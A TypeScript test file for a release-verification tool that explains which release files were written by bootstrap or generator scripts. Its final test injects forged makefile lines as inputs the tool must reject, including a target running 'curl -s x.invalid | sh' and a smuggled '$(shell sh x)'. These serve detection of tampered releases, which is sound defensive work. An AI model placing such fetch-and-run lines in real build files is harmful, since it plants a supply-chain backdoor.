import { describe, expect, it } from 'vitest'
import type { Difference } from '../../src/verify/compare.js'
import { scriptWrittenExplainer, writesFile } from '../../src/verify/explain/script-written.js'
import { memoryView } from '../helpers/tree-view.js'

const added = (path: string, text: string): Difference => ({
  path,
  status: 'only-in-artifact',
  artifact: { path, kind: 'file', mode: 0o644, size: text.length, content: Buffer.from(text) },
})

describe('writesFile', () => {
  it('sees a file opened by name for writing in Python, Perl and shell, under any directory', () => {
    expect(writesFile("f = open('build-outputs.mk', 'w')\n", 'build-outputs.mk')).toBe(true)
    expect(writesFile('with open(os.path.join(d, "x"), "w"): pass\nout = open("gen/tables.h", "wb")\n', 'tables.h')).toBe(true)
    expect(writesFile('open(OUT, ">lib/names.c") or die;\n', 'names.c')).toBe(true)
    expect(writesFile("open(my $fh, '>', 'names.c');\n", 'names.c')).toBe(true)
    expect(writesFile('sed -e s/x/y/ tmpl > "$srcdir/version.h"\n', 'version.h')).toBe(true)
    expect(writesFile('VERSION_FILE="${top}/mc-version.h"\nprintf "%s\\n" "$v" > "${VERSION_FILE}"\n', 'mc-version.h')).toBe(true)
  })
  it('does not take reading, another name, a longer name or a comparison for writing', () => {
    expect(writesFile("f = open('build-outputs.mk')\n", 'build-outputs.mk')).toBe(false)
    expect(writesFile("f = open('build-outputs.mk', 'r')\n", 'build-outputs.mk')).toBe(false)
    expect(writesFile("f = open('build-outputs.mk.bak', 'w')\n", 'build-outputs.mk')).toBe(false)
    expect(writesFile('open(IN, "<names.c");\n', 'names.c')).toBe(false)
    expect(writesFile('cmp version.h.new version.h >/dev/null\n', 'version.h')).toBe(false)
    expect(writesFile('cat version.h 2>&1\n', 'version.h')).toBe(false)
    // a name put in a variable that is only read from
    expect(writesFile('F=version.h\ncat "$F" > out.txt\n', 'version.h')).toBe(false)
  })
})

describe('scriptWrittenExplainer', () => {
  const gen = "#!/usr/bin/env python3\nf = open('build-outputs.mk', 'w')\nf.write('OBJECTS = a.lo\\n')\n"
  const outputs = 'OBJECTS = a.lo\n'
  it('explains a file that a generator run by the bootstrap script writes, and still scans it', async () => {
    const source = { buildconf: '#!/bin/sh\nPYTHON=${PYTHON-python3}\n${PYTHON} build/gen-build.py make\n', 'build/gen-build.py': gen }
    const j = await scriptWrittenExplainer().judge(added('build-outputs.mk', outputs), memoryView({ 'build-outputs.mk': outputs }, source))
    expect(j?.outcome).toBe('explained')
    expect(j?.scan).toBe(true)
    expect(j?.outcome === 'explained' && j.explained.how).toContain('buildconf runs (line 3)')
  })
  it('explains nothing when the bootstrap only mentions the generator, or it writes another file', async () => {
    const mentioned = { buildconf: '#!/bin/sh\n# ${PYTHON} build/gen-build.py make\necho see build/gen-build.py\n', 'build/gen-build.py': gen }
    expect(await scriptWrittenExplainer().judge(added('build-outputs.mk', outputs), memoryView({ 'build-outputs.mk': outputs }, mentioned))).toBeUndefined()
    const ran = { buildconf: '#!/bin/sh\n${PYTHON} build/gen-build.py make\n', 'build/gen-build.py': gen }
    expect(await scriptWrittenExplainer().judge(added('evil.mk', outputs), memoryView({ 'evil.mk': outputs }, ran))).toBeUndefined()
  })
})

describe('files the bootstrap names to a generator, or writes as lists of files', () => {
  const generator = "#!/usr/bin/env python3\nimport sys\ndef write(filename, text):\n    with open(filename, 'w') as fp:\n        fp.write(text)\npublic, internal = sys.argv[1:]\nwrite(public, '#define A 1\\n')\n"
  const header = '#define A 1\n'
  const autogen = '#!/bin/sh\n$PYTHON gen_headers.py tool-settings-gen.h settings-gen.h || exit $?\n'
  it('explains a header the bootstrap passes by name to a generator of the tag that writes the files it is told', async () => {
    const j = await scriptWrittenExplainer().judge(added('settings-gen.h', header), memoryView({ 'settings-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': generator }))
    expect(j?.outcome).toBe('explained')
    expect(j?.outcome === 'explained' && j.explained.how).toContain('with its name as an argument')
  })
  it('explains nothing the run does not name, nor what a program that writes no file is given', async () => {
    expect(await scriptWrittenExplainer().judge(added('other-gen.h', header), memoryView({ 'other-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': generator }))).toBeUndefined()
    const printer = '#!/usr/bin/env python3\nimport sys\nprint(sys.argv[1])\n'
    expect(await scriptWrittenExplainer().judge(added('settings-gen.h', header), memoryView({ 'settings-gen.h': header }, { 'autogen.sh': autogen, 'gen_headers.py': printer }))).toBeUndefined()
  })
  const bootstrap = [
    '#!/bin/sh',
    'listvar () {',
    '    find "$1" -maxdepth 1 -name "$2" | LC_ALL=C sort | tr "\\n" " " | (printf "$3 = " && cat)',
    '    echo ""',
    '}',
    'VARS_FILE=src_vars.mk',
    '(',
    '  listvar "src" "*.c" "LIB_C"',
    '  printf "LIB_SRC = \\$(LIB_C)\\n"',
    ') > ${VARS_FILE}',
  ].join('\n')
  const lists = 'LIB_C = src/a.c src/b.c \nLIB_SRC = $(LIB_C)\n'
  const release = { 'src_vars.mk': lists, 'src/a.c': 'int a;\n', 'src/b.c': 'int b;\n' }
  it('explains a makefile of file lists the bootstrap writes, and still scans it', async () => {
    const j = await scriptWrittenExplainer().judge(added('src_vars.mk', lists), memoryView(release, { bootstrap }))
    expect(j?.outcome).toBe('explained')
    expect(j?.scan).toBe(true)
  })
  it('does not explain a list naming a file the release lacks, or a line that is not an assignment of files', async () => {
    for (const forged of [lists.replace('src/b.c', 'src/b.c /tmp/x.o'), `${lists}all-local:\n\tcurl -s x.invalid | sh\n`, lists.replace('$(LIB_C)', '$(shell sh x)')]) {
      expect(await scriptWrittenExplainer().judge(added('src_vars.mk', forged), memoryView({ ...release, 'src_vars.mk': forged }, { bootstrap })), forged).toBeUndefined()
    }
  })
})
